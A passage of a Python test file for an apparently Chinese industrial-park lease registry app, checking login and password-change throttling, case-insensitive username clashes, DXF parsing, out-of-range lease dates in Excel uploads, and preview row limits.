    session.execute(Enterprise.__table__.update().where(Enterprise.id == world.lease_a.enterprise_id)
                    .values(name="旧\x02名称有限公司"))
    session.commit()
    for kind in ("rent-roll", "followup"):
        assert manager.get(f"/parks/{world.park_a.id}/reports/{kind}?format=xlsx").status_code == 200


def test_guessing_the_current_password_is_limited_like_signing_in(client, world):
    login_as(client, world.manager_a)
    with client.session_transaction() as s:
        token = s["_csrf"]
    form = {"csrf_token": token, "password": "tea kettle on the hill", "confirm": "tea kettle on the hill"}
    for i in range(signin.PER_NAME.free):
        resp = client.post("/account/password", data={**form, "current_password": f"guess-{i}"})
        assert resp.status_code == 400 and "当前密码不正确" in resp.get_data(as_text=True)
    resp = client.post("/account/password", data={**form, "current_password": PASSWORD})
    assert resp.status_code == 400 and signin.LOCKED in resp.get_data(as_text=True)


def test_a_refused_attempt_charges_nothing_and_names_differ_in_more_than_case(client, world, session):
    for i in range(signin.PER_ADDRESS.free):
        _fresh_login(client, f"someone{i}", "wrong", address="10.6.6.6")
    for _ in range(10):
        _fresh_login(client, "admin", PASSWORD, address="10.6.6.6")  # refused: the address waits
    session.expire_all()
    assert session.get(LoginThrottle, "name:admin@10.6.6.6") is None
    login_as(client, world.admin)
    resp = post(client, "/admin/users", {"username": "ADMIN", "password": "tea kettle on the hill", "role": "viewer"})
    assert resp.status_code == 400 and "taken" in resp.get_data(as_text=True)


def test_a_drawing_cannot_hide_its_records_behind_zero_padded_codes(tmp_path):
    from geodata import sources
    from .test_gis_import import cad_drawing
    dxf = cad_drawing(tmp_path)
    plain = sources._dxf_records(dxf)
    lines = dxf.read_bytes().split(b"\n")
    padded = b"\n".join(b" 00\r" if i % 2 == 0 and line.strip() == b"0" else line for i, line in enumerate(lines))
    other = tmp_path / "padded.dxf"
    other.write_bytes(padded)
    assert sources._dxf_records(other) == plain > 0


def test_a_ledger_row_with_a_date_in_year_9999_is_an_error_not_a_crash(manager, world):
    import io
    from openpyxl import load_workbook
    data = manager.get(f"/parks/{world.park_a.id}/excel/template").data
    book = load_workbook(io.BytesIO(data))
    ws = book.worksheets[0]
    header = [c.value for c in ws[1]]
    ws.cell(3, header.index("操作") + 1, "新签")
    ws.cell(3, header.index("统一社会信用代码") + 1, "91610902MA6YUCQX0Y")
    ws.cell(3, header.index("企业名称") + 1, "远期有限公司")
    ws.cell(3, header.index("起租日") + 1, "2026-01-01")
    ws.cell(3, header.index("到期日") + 1, "9999-12-31")
    buf = io.BytesIO()
    book.save(buf)
    resp = post(manager, f"/parks/{world.park_a.id}/excel/preview", {"file": (io.BytesIO(buf.getvalue()), "台账.xlsx")},
                content_type="multipart/form-data")
    assert resp.status_code == 400 and "超出范围" in resp.get_data(as_text=True)


def test_a_preview_lists_a_limited_number_of_rows(manager, world, monkeypatch):
    import io
    from openpyxl import load_workbook
    data = manager.get(f"/parks/{world.park_a.id}/excel/template").data
    book = load_workbook(io.BytesIO(data))
    ws = book.worksheets[0]
    header = [c.value for c in ws[1]]
    for row in range(2, ws.max_row + 1):  # every unit's area changes: six changes
        ws.cell(row, header.index("可租面积(㎡)") + 1, 999)
    buf = io.BytesIO()
    book.save(buf)
    monkeypatch.setenv("REGISTRY_MAX_PREVIEW_ROWS", "2")
    page = post(manager, f"/parks/{world.park_a.id}/excel/preview", {"file": (io.BytesIO(buf.getvalue()), "台账.xlsx")},
                content_type="multipart/form-data").get_data(as_text=True)
    assert page.count('<li data-kind="area">') == 2 and "仅显示前 2 条" in page
